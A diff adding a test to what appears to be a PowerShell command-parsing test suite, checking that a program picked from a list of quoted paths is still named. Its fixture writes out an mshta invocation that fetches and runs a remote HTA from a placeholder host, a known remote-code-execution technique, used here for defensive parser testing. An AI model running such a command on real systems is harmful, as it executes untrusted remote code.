@@ -60,6 +60,19 @@ describe('loop variables stand for the items of their list', () => {
   });
 });
 
+describe('a list of paths assigned as written', () => {
+  it('keeps quoted items with unknown parts, so a program picked from the list is still named', () => {
+    const d = doc(
+      '$paths = @("$env:SystemRoot\\System32\\mshta.exe", "$env:SystemRoot\\SysWOW64\\mshta.exe")\n$exe = $paths | Where-Object { Test-Path $_ } | Select-Object -First 1\n& $exe http://x.example/a.hta',
+      'powershell',
+    );
+    expect(d.commands.at(-1)?.name).toBe('mshta');
+    // Anything but quoted items (a command, a variable) leaves the variable unknown.
+    expect(doc('$p = @(Get-Process)\n& $p', 'powershell').commands.at(-1)?.words[0]?.value).toBe('$p');
+    expect(doc('$p = @("a", $b)\n& $p', 'powershell').commands.at(-1)?.words[0]?.value).toBe('$p');
+  });
+});
+
 describe('PowerShell splatting: @params stands as the parameters its hashtable holds', () => {
   it('expands a hashtable into -Key value words, a $true switch into the switch', () => {
     const text =
